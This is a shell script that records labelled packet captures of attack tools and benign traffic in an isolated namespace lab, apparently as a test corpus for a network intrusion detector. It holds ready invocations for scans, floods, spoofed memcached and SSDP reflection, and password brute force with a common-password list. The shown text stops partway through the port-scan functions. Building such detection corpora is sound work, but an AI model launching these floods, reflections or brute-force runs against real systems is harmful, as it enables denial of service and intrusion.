#!/usr/bin/env bash
# record-corpus.sh OUTDIR [--only NAME,NAME] [--no-install]
# record-corpus.sh --list [--only NAME,NAME]   (variants and planned seconds; no root needed)
# record-corpus.sh OUTDIR --table               (update the table in OUTDIR/README.md; no root needed)
#
# Records the variant corpus of test/corpus/testdata: one small capture per
# attack-tool variant or benign scenario, each with a label in
# OUTDIR/manifest.json, on the private test network of scripts/lab.sh
# (network namespaces na-cor-<pid>-*; nothing is routed out of them).
#
# The lab is set up once: victim 10.213.0.10 / fd00:213::10 (nginx :80,
# sshd :22, vsftpd :21, a Python login form :8080, a firewall dropping TCP
# 8081-8999 and UDP 9999), router, attacker 10.213.0.66 / fd00:213::66,
# clients 10.213.0.101-108 (and 120-149 for crowds), a monitoring poller
# .240, an allowlisted scanner .250, and behind the router (10.213.1.0/24)
# DNS, memcached, chargen and SSDP reflectors and an "outside" DNS server
# .77. A modest benign background (HTTP, DNS, SSH from the clients, about
# 18 packets/s) runs all the time.
#
# Each variant gets its own tcpdump on the bridge (snaplen 256, nanosecond
# timestamps): an attack has 25 s of benign traffic, the attack (bounded by
# count and timeout) and 25 s after; a benign or train recording is its
# scenario for 10-30 minutes. The capture is cut with test/corpus/trim
# (headers and a little payload) and gzipped to OUTDIR/<type>-<variant>.pcap.gz,
# and the variant's entry in OUTDIR/manifest.json is added or replaced. At
# the end the variants table in OUTDIR/README.md (between its
# <!-- variants:begin/end --> markers) is rewritten.
# attack_start/attack_end are the first and last attack packet in the
# capture (the attacker's MAC, the reflectors, the tunnel server...) with
# 10 ms either side; for a spike or a flood from the clients, the first and
# last of their packets while the tool ran; a traffic drop keeps the times
# the links went down and came back (or the clients paused and resumed).
#
# --only takes variant names, types (port_scan) or roles (benign, train).
# Must run as root; installs missing tools with apt-get unless --no-install.
# Everything it creates is removed on exit, failure and Ctrl-C. The tools'
# output goes to CORPUS_LOGDIR (default /tmp/corpus-logs). TRIM may name a
# built trim binary; otherwise it is built with go.
set -euo pipefail

usage() {
	sed -n '2,3p' "$0" | sed 's/^# \{0,1\}//' >&2
	echo "run with -h for the description" >&2
	exit 2
}

OUTDIR="" ONLY="" LIST=0 INSTALL=1 TABLE=0
while [ $# -gt 0 ]; do
	case "$1" in
	--only) [ $# -ge 2 ] || usage; ONLY=$2; shift 2 ;;
	--only=*) ONLY=${1#*=}; shift ;;
	--list) LIST=1; shift ;;
	--table) TABLE=1; shift ;;
	--no-install) INSTALL=0; shift ;;
	-h | --help) sed -n '2,/^set -euo/p' "$0" | sed '$d; s/^# \{0,1\}//'; exit 0 ;;
	-*) echo "record-corpus.sh: unknown option $1" >&2; usage ;;
	*) [ -z "$OUTDIR" ] || usage; OUTDIR=$1; shift ;;
	esac
done
[ -n "$OUTDIR" ] || [ "$LIST" -eq 1 ] || usage

LAB_PREFIX=na-cor-$$
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"
REPO=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)

PRE=25 POST=25 # benign seconds around an attack
OVERHEAD=8     # tcpdump start and stop, trimming
SETTLE=5       # between two recordings, not captured

# ---------------------------------------------------------------- variants
# name role type seconds: seconds is the attack's planned length (for
# attacks) or the whole recording (benign, train). The function recording
# a variant is v_<name with / and - as _>.
VARIANTS=()
def() { VARIANTS+=("$1 $2 $3 $4"); }
def port_scan/syn-top1000 attack port_scan 5
def port_scan/connect-3000 attack port_scan 15
def port_scan/udp-top100 attack port_scan 150
def port_scan/syn-fast-5000 attack port_scan 5
def port_scan/syn-slow attack port_scan 200
def port_scan/arp-sweep attack port_scan 10
def port_scan/horizontal-22-80-443 attack port_scan 15
def port_scan/ipv6-syn-top200 attack port_scan 5
def port_scan/filtered-only attack port_scan 15
def port_scan/hping3-port-sweep attack port_scan 8
def port_scan/connect-retries attack port_scan 30
def port_scan/rescan-a-minute-later attack port_scan 70
def port_scan/ip-protocol attack port_scan 10
def port_scan/xmas-top1000 attack port_scan 10
def port_scan/fin-ipv6-top200 attack port_scan 10
def port_scan/ack-top1000 attack port_scan 10
def syn_flood/open-port-fast attack syn_flood 5
def syn_flood/open-port-rate-limited attack syn_flood 7
def syn_flood/closed-port attack syn_flood 5
def syn_flood/filtered-port attack syn_flood 5
def syn_flood/spoofed-random attack syn_flood 5
def syn_flood/random-ports-fast attack syn_flood 3
def syn_flood/ipv6-open-port attack syn_flood 4
def syn_flood/ack-flood attack syn_flood 5
def brute_force/ssh-slow-t1 attack brute_force 120
def brute_force/ftp-burst-12 attack brute_force 3
def brute_force/ssh-t4 attack brute_force 90
def brute_force/ssh-t16 attack brute_force 60
def brute_force/ssh-ipv6 attack brute_force 60
def brute_force/ftp-t4 attack brute_force 90
def brute_force/http-post-t4 attack brute_force 90
def brute_force/http-post-t16 attack brute_force 60
def brute_force/http-basic-auth attack brute_force 5
def slowloris/headers-300 attack slowloris 80
def slowloris/headers-small-80 attack slowloris 80
def slowloris/slow-read attack slowloris 80
def slowloris/slow-post attack slowloris 80
def slowloris/headers-ipv6 attack slowloris 65
def http_flood/ab-one-source attack http_flood 5
def http_flood/ab-keepalive attack http_flood 5
def http_flood/many-sources attack http_flood 22
def http_flood/slow-steady attack http_flood 122
def http_flood/ab-ipv6 attack http_flood 5
def http_flood/request-burst attack http_flood 30
def udp_flood/fast attack udp_flood 3
def udp_flood/rate-limited attack udp_flood 11
def udp_flood/spoofed-random attack udp_flood 4
def udp_flood/filtered-port attack udp_flood 4
def udp_flood/dns-query-flood attack udp_flood 12
def udp_flood/ipv6-python attack udp_flood 7
def icmp_flood/fast attack icmp_flood 3
def icmp_flood/rate-limited attack icmp_flood 7
def icmp_flood/spoofed-random attack icmp_flood 4
def icmp_flood/ping-flood attack icmp_flood 10
def icmp_flood/ping6-flood attack icmp_flood 10
def dns_amplification/txt-4-reflectors attack dns_amplification 5
def dns_amplification/txt-1-reflector-slow attack dns_amplification 31
def dns_amplification/any-2-reflectors attack dns_amplification 7
def dns_amplification/txt-2-reflectors-fast attack dns_amplification 3
def reflection/memcached-stats attack reflection 7
def reflection/memcached-get attack reflection 5
def reflection/chargen attack reflection 9
def reflection/ssdp attack reflection 4
def dns_tunnel/slow-txt attack dns_tunnel 121
def dns_tunnel/fast-null attack dns_tunnel 41
def dns_tunnel/txt-large attack dns_tunnel 61
def dns_tunnel/ipv6-txt attack dns_tunnel 61
def dns_tunnel/null-polling attack dns_tunnel 61
def arp_spoofing/gateway-claim attack arp_spoofing 42
def arp_spoofing/mitm-bidirectional attack arp_spoofing 42
def arp_spoofing/slow-claims attack arp_spoofing 113
def arp_spoofing/arping-gratuitous attack arp_spoofing 41
def arp_spoofing/dsniff-arpspoof attack arp_spoofing 30
def icmp_tunnel/ptunnel-ng-download attack icmp_tunnel 10
def icmp_tunnel/ptunnel-ng-upload attack icmp_tunnel 10
def icmp_tunnel/ptunnel-ng-polling attack icmp_tunnel 90
def icmp_tunnel/ptunnel-ng-rate-limited attack icmp_tunnel 35
def dhcp_flood/dhcpstarv attack dhcp_flood 45
def dhcp_flood/dhcpstarv-no-ping attack dhcp_flood 20
def dhcp_flood/yersinia-forged-macs attack dhcp_flood 8
def dhcp_flood/one-client-discover-flood attack dhcp_flood 6
def dhcp_flood/flood-dhcpc6-ipv6 attack dhcp_flood 8
def traffic_spike/parallel-downloads attack traffic_spike 6
def traffic_spike/bulk-push attack traffic_spike 10
def traffic_spike/ipv6-download attack traffic_spike 10
def traffic_spike/scp-upload attack traffic_spike 6
def traffic_drop/full-outage attack traffic_drop 75
def traffic_drop/server-unreachable attack traffic_drop 75
def traffic_drop/server-and-gateway attack traffic_drop 90
def traffic_drop/partial-clients attack traffic_drop 90
def traffic_drop/clients-idle attack traffic_drop 60
def train/background train - 1800
def benign/flash-crowd benign - 720
def benign/backup-transfer benign - 540
def benign/monitoring-poller benign - 1200
def benign/nightly-scanner benign - 540
def benign/dns-heavy-client benign - 540
def benign/interactive-ssh benign - 600
def benign/keepalive-clients benign - 540
def benign/busy-hour benign - 1200
def benign/config-management benign - 1500
def benign/dhcp-rejoin benign - 200
def benign/path-traces benign - 110

# selected NAME ROLE TYPE: whether --only picks the variant.
selected() {
	[ -n "$ONLY" ] || return 0
	local w
	for w in ${ONLY//,/ }; do
		case "$w" in "$1" | "$2" | "$3" | "${1%%/*}") return 0 ;; esac
	done
	return 1
}
planned() { # planned ROLE SECONDS: the recording's length
	if [ "$1" = attack ]; then echo $((PRE + $2 + POST + OVERHEAD)); else echo $(($2 + OVERHEAD)); fi
}
SEL_VARIANTS=()
total=0
for v in "${VARIANTS[@]}"; do
	read -r name role type secs <<<"$v"
	[ "$type" != - ] || type=""
	if selected "$name" "$role" "$type"; then
		SEL_VARIANTS+=("$v")
		total=$((total + $(planned "$role" "$secs") + SETTLE))
	fi
done
if [ -n "$ONLY" ]; then
	for w in ${ONLY//,/ }; do
		found=0
		for v in "${VARIANTS[@]}"; do
			read -r name role type _ <<<"$v"
			case "$w" in "$name" | "$role" | "$type" | "${name%%/*}") found=1 ;; esac
		done
		[ "$found" -eq 1 ] || { echo "record-corpus.sh: --only: no variant, type or role '$w' (see --list)" >&2; exit 2; }
	done
fi
if [ "$LIST" -eq 1 ]; then
	for v in "${SEL_VARIANTS[@]}"; do
		read -r name role _ secs <<<"$v"
		printf '%-40s %-7s %5d s\n' "$name" "$role" "$(planned "$role" "$secs")"
	done
	echo "planned_seconds=$total (${#SEL_VARIANTS[@]} recordings, lab setup not counted)"
	exit 0
fi
# update_table: the variants table in OUTDIR/README.md, from the manifest
# and the captures.
update_table() {
	[ -e "$OUTDIR/README.md" ] || return 0
	"$PY" "$LABTOOLS/corpus_table.py" "$OUTDIR" --update
}
if [ "$TABLE" -eq 1 ]; then
	[ -n "$OUTDIR" ] || usage
	update_table
	exit
fi
if [ "$(id -u)" -ne 0 ]; then
	echo "record-corpus.sh: must run as root: it creates network namespaces and runs packet tools (try sudo)" >&2
	exit 1
fi

# ---------------------------------------------------------------- setup
lab_install_missing "$INSTALL" vsftpd:vsftpd memcached:memcached ab:apache2-utils nft:nftables \
	ethtool:ethtool nc:netcat-openbsd capinfos:tshark dhcpstarv:dhcpstarv yersinia:yersinia udhcpc:udhcpc ptunnel-ng:ptunnel-ng atk6-flood_dhcpc6:thc-ipv6 dnsperf:dnsperf arpspoof:dsniff \
	traceroute:traceroute mtr:mtr-tiny
for c in ip tcpdump timeout curl "$PY" nft; do have "$c" || die "$c is required and not installed"; done

mkdir -p "$OUTDIR"
OUTDIR=$(cd "$OUTDIR" && pwd)
MANIFEST=$OUTDIR/manifest.json
LAB_LOGDIR=${CORPUS_LOGDIR:-/tmp/corpus-logs}
mkdir -p "$LAB_LOGDIR"
T_BEGIN=$(now)

lab_begin
# A partly written capture is not left behind.
lab_cleanup_hook() { rm -f "$OUTDIR"/.trim-* 2>/dev/null; }

if [ -z "${TRIM:-}" ]; then
	have go || die "go is needed to build test/corpus/trim (or set TRIM to a built binary)"
	log "building test/corpus/trim"
	(cd "$REPO" && go build -o "$RUN/trim" ./test/corpus/trim) || die "go build ./test/corpus/trim failed"
	TRIM=$RUN/trim
fi

lab_network
# Hosts the corpus adds: the attacker's IPv6 address, crowd addresses on
# the clients, a monitoring poller and a scanner of their own, and more
# servers behind the router.
ip -n "$NS_ATTACKER" addr add "$ATTACKER6/64" dev eth0 nodad
CROWD=()
for h in $(seq 120 149); do
	i=$(((h - 120) / 10))
	ip -n "${NS_CLIENTS[$i]}" addr add "$LAN4.$h/24" dev eth0
	ip -n "${NS_CLIENTS[$i]}" addr add "${LAN6}:$h/64" dev eth0 nodad
	CROWD+=("$i:$h")
done
MONITOR=$LAN4.240 MONITOR6=${LAN6}:240 SCANNER=$LAN4.250 SCANNER6=${LAN6}:250
lab_add_host monitor "$MONITOR" "$MONITOR6"
lab_add_host scanner "$SCANNER" "$SCANNER6"
NS_MONITOR=$P-monitor NS_SCANNER=$P-scanner
OUTSIDE=$WAN4.77 OUTSIDE6=${WAN6}:77
MEMCACHED=("$WAN4.11" "$WAN4.12") CHARGEN=("$WAN4.19" "$WAN4.20") SSDP=("$WAN4.90" "$WAN4.91")
for a in "$OUTSIDE" "${MEMCACHED[@]}" "${CHARGEN[@]}" "${SSDP[@]}"; do ip -n "$NS_WAN" addr add "$a/32" dev eth0; done
ip -n "$NS_WAN" addr add "$OUTSIDE6/128" dev eth0 nodad
lab_offload_off
CLIENT_MACS=()
for ns in "${NS_CLIENTS[@]}"; do CLIENT_MACS+=("$(mac_of "$ns")"); done
mac_of_addr() { # mac_of_addr HOSTPART: the MAC of the client namespace that has LAN4.HOSTPART
	local ch
	for ch in "${CLIENT_HOSTS[@]}" "${CROWD[@]}"; do
		[ "${ch#*:}" != "$1" ] || { echo "${CLIENT_MACS[${ch%%:*}]}"; return; }
	done
}

lab_services
if [ "$HAVE_SSH" -ne 1 ] || [ "$HAVE_DNS" -ne 1 ]; then die "sshd and dnsmasq are needed: ${SKIPPED[*]}"; fi

# Victim: a firewall with filtered ports, an FTP server, a login form.
nsx "$NS_VICTIM" nft -f - <<'EOF'
table inet lab {
	chain input {
		type filter hook input priority 0; policy accept;
		tcp dport 8081-8999 drop
		udp dport 9999 drop
	}
}
EOF
mkdir -p "$RUN/vsftpd-empty" && chmod 755 "$RUN/vsftpd-empty"
cat >"$RUN/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$VICTIM
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$RUN/vsftpd-empty
seccomp_sandbox=NO
xferlog_enable=NO
max_clients=300
max_per_ip=100
delay_failed_login=1
max_login_fails=3
ftpd_banner=lab FTP service
EOF
ip netns exec "$NS_VICTIM" vsftpd "$RUN/vsftpd.conf" >"$LAB_LOGDIR/vsftpd.log" 2>&1 &
BG_PIDS+=($!)
ip netns exec "$NS_VICTIM" "$PY" "$LABTOOLS/login_server.py" 8080 >"$LAB_LOGDIR/login.log" 2>&1 &
BG_PIDS+=($!)
ip netns exec "$NS_VICTIM" nc -lk 9000 </dev/null >/dev/null 2>"$LAB_LOGDIR/nc-sink.log" &
BG_PIDS+=($!)

# Behind the router: reflectors and the tunnel's DNS server.
lab_dns_reflectors || die "the DNS reflectors do not answer: $(cat "$LAB_LOGDIR/dnsmasq-reflectors.log")"
mc_listen=$(IFS=,; echo "${MEMCACHED[*]},127.0.0.1")
ip netns exec "$NS_WAN" memcached -u nobody -l "$mc_listen" -p 11211 -U 11211 -m 64 -t 2 >"$LAB_LOGDIR/memcached.log" 2>&1 &
BG_PIDS+=($!)
ip netns exec "$NS_WAN" "$PY" "$LABTOOLS/udp_reflectors.py" chargen "${CHARGEN[@]}" >"$LAB_LOGDIR/chargen.log" 2>&1 &
BG_PIDS+=($!)
ip netns exec "$NS_WAN" "$PY" "$LABTOOLS/udp_reflectors.py" ssdp "${SSDP[@]}" >"$LAB_LOGDIR/ssdp.log" 2>&1 &
BG_PIDS+=($!)
TUNNEL_DOMAIN=t.tunnel.test
ip netns exec "$NS_WAN" "$PY" "$LABTOOLS/dns_tunnel.py" server "$TUNNEL_DOMAIN" "$OUTSIDE" "$OUTSIDE6" >"$LAB_LOGDIR/tunnel-server.log" 2>&1 &
BG_PIDS+=($!)

# The memcached value the get reflection asks for (20 kB, about 15 datagrams).
wait_for "$NS_WAN" bash -c 'exec 3<>/dev/tcp/127.0.0.1/11211' || die "memcached does not answer: $(cat "$LAB_LOGDIR/memcached.log")"
# shellcheck disable=SC2016 # expanded by the inner bash
nsx "$NS_WAN" bash -c 'v=$(head -c 15000 /dev/urandom | base64 -w0); exec 3<>/dev/tcp/127.0.0.1/11211;
	printf "set amp 0 0 %d\r\n%s\r\n" "${#v}" "$v" >&3; head -c 8 <&3' | grep -q STORED || die "memcached: set failed"
printf '\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n' >"$RUN/mc-stats.bin"
printf '\x00\x02\x00\x00\x00\x01\x00\x00get amp\r\n' >"$RUN/mc-get.bin"
printf 'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n' >"$RUN/ssdp.bin"
printf 'x' >"$RUN/chargen.bin"

wait_for "${NS_CLIENTS[0]}" curl -sf -o /dev/null --max-time 2 "http://$VICTIM:8080/login" || die "login form on :8080 does not answer"
# shellcheck disable=SC2016
wait_for "${NS_CLIENTS[0]}" bash -c 'exec 3<>/dev/tcp/'"$VICTIM"'/21; head -c 3 <&3 | grep -q 220' ||
	die "vsftpd does not answer: $(cat "$LAB_LOGDIR/vsftpd.log")"
wait_for "${NS_CLIENTS[2]}" dig +time=1 +tries=1 "@$OUTSIDE" "abc.$TUNNEL_DOMAIN" TXT || die "the tunnel's DNS server does not answer"
wait_for "${NS_CLIENTS[2]}" dig +time=1 +tries=1 "@$OUTSIDE6" "abc.$TUNNEL_DOMAIN" TXT || die "the tunnel's DNS server does not answer on IPv6"

# Files: a compressible "backup" (repeated text: it keeps the trimmed
# captures small) and wordlists.
head -c 200000000 < <(yes 'backup 2025-12-01 /srv/data/records.db block 0123456789abcdefghijklmnopqrstuvwxyz') >"$RUN/www/backup.tar"
chmod 644 "$RUN/www/backup.tar"
printf '%s\n' admin root test guest oracle ubuntu >"$RUN/users.txt"
{
	printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon \
		123123 baseball abc123 football monkey letmein 696969 shadow master 666666 \
		qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 \
		000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter \
		buster soccer harley batman andrew tigger sunshine iloveyou 2000 charlie
	for w in summer winter spring autumn welcome secret dragon monkey; do
		for y in $(seq 1990 2025); do echo "$w$y"; done
	done
} >"$RUN/words.txt"

# ---------------------------------------------------------------- loops
# Scenario loops, run inside client namespaces like the benign ones (see
# lab.sh): each bounded by a count, a deadline and the stop file.
curl_loop() { # curl_loop SRC URL SLEEP_S COUNT UNTIL: back-to-back requests
	local i
	for ((i = 0; i < $4; i++)); do
		running "$5" || break
		timeout 6 curl -s -o /dev/null --max-time 5 --interface "$1" "$2" >/dev/null
		sleep "$3"
	done
}
download_loop() { # download_loop SRC URL RATE UNTIL: rate-limited downloads until UNTIL
	local i
	for ((i = 0; i < 1000; i++)); do
		running "$4" || break
		timeout $(($4 - EPOCHSECONDS + 2)) curl -s -o /dev/null --limit-rate "$3" --max-time $(($4 - EPOCHSECONDS + 1)) \
			--interface "$1" "$2" >/dev/null
	done
}
crowd_visit() { # crowd_visit SRC HOST DELAY_MS: one visitor: a few pages, once
	local src=$1 host=$2
	rsleep "$3" "$3"
	running "$DEADLINE" || return 0
	timeout 20 curl -s -o /dev/null -o /dev/null --max-time 15 --interface "$src" "http://$host/index.html" "http://$host/favicon.ico"
	rsleep 2000 6000
	timeout 20 curl -s -o /dev/null -o /dev/null --max-time 15 --interface "$src" "http://$host/page.html" "http://$host/small.html"
	rsleep 2000 8000
	timeout 20 curl -s -o /dev/null -o /dev/null --max-time 15 --interface "$src" "http://$host/index.html" "http://$host/small.html"
}
keepalive_client() { # keepalive_client SRC HOST UNTIL: short keep-alive sessions every 20-60 s
	local src=$1 host=$2 i n k urls
	rsleep 0 30000
	for ((i = 0; i < 500; i++)); do
		running "$3" || break
		n=$((3 + RANDOM % 6)) urls=()
		for ((k = 0; k < n; k++)); do
			case $((RANDOM % 4)) in
			0) urls+=("http://$host/small.html") ;;
			1) urls+=("http://$host/favicon.ico") ;;
			2) urls+=("http://$host/index.html") ;;
			*) urls+=("http://$host/health") ;;
			esac
		done
		timeout 20 curl -s --max-time 15 --interface "$src" "${urls[@]}" >/dev/null
		rsleep 20000 60000
	done
}
poller() { # poller UNTIL: HTTP health checks every 10 s, an SSH banner check every 60 s
	local i
	for ((i = 0; i < 20000; i++)); do
		running "$1" || break
		timeout 5 curl -s -o /dev/null --max-time 4 "http://$VICTIM/health"
		timeout 5 curl -s -o /dev/null --max-time 4 "http://$VICTIM:8080/"
		if ((i % 6 == 0)); then
			timeout 5 bash -c "exec 3<>/dev/tcp/$VICTIM/22; head -c 20 <&3" >/dev/null 2>&1
		fi
		sleep 10
	done
}
dns_heavy() { # dns_heavy SRC UNTIL: 5-10 lookups a second of many different names
	local words i a b t
	words=(alpha api app assets auth backup beta billing blog cache calendar cdn chat cloud cms
		data db dev docs download edge files forum gateway git help images img internal jira
		login mail maps media metrics mobile monitor news ntp portal proxy search secure shop
		sso static stats status store support sync test update video vpn web wiki www)
	for ((i = 0; i < 20000; i++)); do
		running "$2" || break
		a=${words[RANDOM % ${#words[@]}]} b=${words[RANDOM % ${#words[@]}]} t=A
		((RANDOM % 4)) || t=AAAA
		timeout 4 dig +time=1 +tries=1 -b "$1" "@$ROUTER" "$a.$b$((RANDOM % 20)).example.test" "$t" >/dev/null
		rsleep 60 180
	done
}
typist() { # typist UNTIL: types shell commands slowly, as a person at an SSH prompt
	local cmds c k i
	cmds=("uptime" "ls -la /etc | head -30" "cat /etc/os-release" "df -h" "free -m"
		"ps aux | head -25" "ip -br addr" "ls /usr/share/doc | head -40" "date" "who"
		"cat /proc/loadavg" "uname -a" "ls -l /var/log | head" "echo \$SHELL" "cat /proc/cpuinfo | grep -m2 model")
	sleep 2
	for ((i = 0; i < 400; i++)); do
		running "$1" || break
		c=${cmds[RANDOM % ${#cmds[@]}]}
		for ((k = 0; k < ${#c}; k++)); do
			printf '%s' "${c:k:1}"
			rsleep 90 400
		done
		printf '\r'
		rsleep 4000 45000
	done
	printf 'exit\r'
	sleep 2
}
config_agent() { # config_agent SRC UNTIL: a configuration run every minute, each command over a new SSH connection (key login)
	local i c
	for ((i = 0; i < 200; i++)); do
		running "$2" || break
		for c in "uptime" "df -P /" "cat /etc/os-release" "hostname" "id -u" "date +%s"; do
			timeout 10 ssh -n -F /dev/null -i "$RUN/client_key" -b "$1" -o BatchMode=yes -o StrictHostKeyChecking=no \
				-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5 "root@$VICTIM" "$c" >/dev/null 2>&1
			rsleep 200 1500
		done
		rsleep 50000 60000
	done
}
export -f curl_loop download_loop crowd_visit keepalive_client poller dns_heavy typist config_agent

# ---------------------------------------------------------------- recording
TOOL="" DESC="" ATTACKERS="" MACS="" SPOOF=false TARGETS="" ALLOW="" SEL="" BASELINE=false VLOG=/dev/null
# BASELINE=true marks an attack too faint for absolute floors (the
# manifest's needs_baseline): judged against the trained baseline only.
# SEL is a tcpdump filter for the attack's packets; they are looked for
# while the tool runs and AFTER seconds more (answers still on the way).
# A variant whose packets look like the benign ones (a spike, a flood from
# the clients) sets AFTER=0: its first and last matching packet while the
# tool ran bound it.
AFTER=2
ATK_PIDS=()
# note CMD...: adds a command line to the manifest's tool field.
note() {
	local c="$*"
	c=${c//"$LABTOOLS/"/} c=${c//"$RUN/"/} c=${c//"$PY "/python3 }
	TOOL="${TOOL:+$TOOL; }$c"
}
# run_in SECS NS CMD...: CMD in namespace NS under timeout SECS, noted; the
# wait is one a signal interrupts at once.
run_in() {
	local secs=$1 ns=$2 rc=0
	shift 2
	note "$@"
	timeout "$secs" ip netns exec "$ns" "$@" >>"$VLOG" 2>&1 &
	CUR_PID=$!
	wait "$CUR_PID" || rc=$?
	CUR_PID=""
	echo "exit $rc: $*" >>"$VLOG"
}
# bg_in SECS NS CMD...: the same in the background; wait_all waits.
bg_in() {
	local secs=$1 ns=$2
	shift 2
	timeout "$secs" ip netns exec "$ns" "$@" >>"$VLOG" 2>&1 &
	ATK_PIDS+=($!)
}
wait_all() {
	local p
	for p in "${ATK_PIDS[@]}"; do wait "$p" || true; done
	ATK_PIDS=()
}
# lan_attack SRC TARGETS DESC: the attacker host sends; its MAC marks the packets.
lan_attack() {
	ATTACKERS=$1 MACS=$ATTACKER_MAC TARGETS=$2 DESC=$3 SEL="ether host $ATTACKER_MAC"
}
hping() { # hping SECS ARGS...: hping3 from the attacker
	local secs=$1
	shift
	run_in "$secs" "$NS_ATTACKER" hping3 -q -n "$@"
}
# reflect QUERYFILE PORT COUNT INTERVAL REFLECTOR...: the attacker, behind the
# router with the reflectors, sends QUERYFILE to each REFLECTOR with the
# victim's address; the LAN sees only the answers.
reflect() {
	local file=$1 port=$2 count=$3 ival=$4 r len cmd=()
	shift 4
	len=$(stat -c %s "$file")
	for r in "$@"; do
		cmd=(hping3 -q -n --udp -a "$VICTIM" -s 20000 -p "$port" -E "$file" -d "$len" -c "$count" -i "$ival" "$r")
		note "${cmd[@]}"
		bg_in 120 "$NS_WAN" "${cmd[@]}"
	done
	wait_all
	ATTACKERS=$(IFS=,; echo "$*") MACS="" TARGETS=$VICTIM SEL="net $WAN4.0/24"
}
clients_loop() { # clients_loop SECS FN ARGS...: FN SRC ARGS... from every client address, in parallel
	local secs=$1 ch i h
	shift
	for ch in "${CLIENT_HOSTS[@]}"; do
		i=${ch%%:*} h=${ch#*:}
		bg_in "$secs" "${NS_CLIENTS[$i]}" bash -c "$1 \"\$@\"" _ "$LAN4.$h" "${@:2}"
	done
	wait_all
}
client_addrs() { local ch s=""; for ch in "${CLIENT_HOSTS[@]}"; do s="$s${s:+,}$LAN4.${ch#*:}"; done; echo "$s"; }
client_macs() { local IFS=,; echo "${CLIENT_MACS[*]}"; }
neigh_flush() { local ns; for ns in "${ALL_NS[@]}"; do ip -n "$ns" neigh flush all 2>/dev/null || true; done; }
ports() { # ports up|down PORT...: bridge ports
	local state=$1 p
	shift
	for p in "$@"; do ip -n "$NS_SW" link set "$p" "$state"; done
}
# until_t SECONDS: waits until SECONDS after the recording started.
until_t() {
	local left
	left=$(awk -v s="$T_REC" -v t="$1" -v n="$(now)" 'BEGIN { d = s + t - n; printf "%.2f", (d > 0 ? d : 0) }')
	pause "$left"
}

# ---------------------------------------------------------------- port_scan
SCAN=(nmap -n -Pn)
v_port_scan_syn_top1000() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap SYN scan of the 1000 most common TCP ports: the victim answers SYN-ACK on open ports and RST on closed ones, nothing on the filtered ones; nmap's kernel resets the half-open connections"
	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sS -T4 --top-ports 1000 "$VICTIM"
}
v_port_scan_connect_3000() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap connect scan of TCP ports 1-3000: full handshakes closed at once with RST on the open ports, RSTs from the victim on the closed ones"
	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sT -T3 -p 1-3000 "$VICTIM"
}
v_port_scan_connect_retries() {
	lan_attack "$ATTACKER" "$VICTIM" "a connect() scanner that retries refused ports, as Windows' connect() does: TCP ports 1000-1199, each tried 10 times 0.25 s apart unless it answers, 32 at once (about 2000 SYNs in 16 s, each refused port seen 10 times)"
	run_in 120 "$NS_ATTACKER" "$PY" "$LABTOOLS/connect_scan.py" "$ATTACKER" "$VICTIM" 1000 1199 10 0.25 32
}
v_port_scan_rescan_a_minute_later() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap SYN scan of the 1000 most common TCP ports, then a minute later a connect scan of the same ports: the second tries no service the attacker did not try a minute before"
	run_in 120 "$NS_ATTACKER" "${SCAN[@]}" -sS -T4 --top-ports 1000 "$VICTIM"
	note "sleep 60"
	sleep 60
	run_in 120 "$NS_ATTACKER" "${SCAN[@]}" -sT -T4 --top-ports 1000 "$VICTIM"
}
v_port_scan_udp_top100() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap UDP scan of the 100 most common UDP ports: empty or protocol-specific datagrams, answered by rate-limited ICMP port unreachable from the victim, so nmap slows down"
	run_in 170 "$NS_ATTACKER" "${SCAN[@]}" -sU -T4 --top-ports 100 --max-retries 1 --host-timeout 150s "$VICTIM"
}
v_port_scan_syn_fast_5000() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap SYN scan at -T5 of TCP ports 1-5000 in a few seconds"
	run_in 120 "$NS_ATTACKER" "${SCAN[@]}" -sS -T5 -p 1-5000 "$VICTIM"
}
v_port_scan_syn_slow() {
	lan_attack "$ATTACKER" "$VICTIM" "slow nmap SYN scan: one probe every 3 s to the 60 most common TCP ports, about 3 minutes"
	run_in 280 "$NS_ATTACKER" "${SCAN[@]}" -sS -T2 --scan-delay 3s --max-retries 1 --top-ports 60 "$VICTIM"
}
v_port_scan_arp_sweep() {
	lan_attack "$ATTACKER" "$LAN4.0/24" "nmap ping sweep of the LAN: an ARP request for each of the 256 addresses, answered by the live hosts"
	run_in 120 "$NS_ATTACKER" nmap -n -sn -T4 "$LAN4.0/24"
}
v_port_scan_horizontal_22_80_443() {
	lan_attack "$ATTACKER" "$LAN4.0/24" "horizontal nmap SYN scan of ports 22, 80 and 443 on every live host of the LAN (ARP discovery first, about 45 hosts)"
	run_in 180 "$NS_ATTACKER" nmap -n -sS -T4 -p 22,80,443 "$LAN4.0/24"
}
v_port_scan_ipv6_syn_top200() {
	lan_attack "$ATTACKER6" "$VICTIM6" "nmap SYN scan over IPv6 of the 200 most common TCP ports"
	run_in 120 "$NS_ATTACKER" "${SCAN[@]}" -6 -sS -T4 --top-ports 200 "$VICTIM6"
}
v_port_scan_ip_protocol() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap IP protocol scan of the victim: a packet of each of the 256 IP protocol numbers, answered by ICMP protocol unreachable for those its kernel does not speak"
	run_in 120 "$NS_ATTACKER" "${SCAN[@]}" -sO -T4 "$VICTIM"
}
v_port_scan_filtered_only() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap SYN scan of the victim's firewalled TCP ports 8081-8999 and UDP 9999 only: every probe is dropped, nothing answers, nmap retries once"
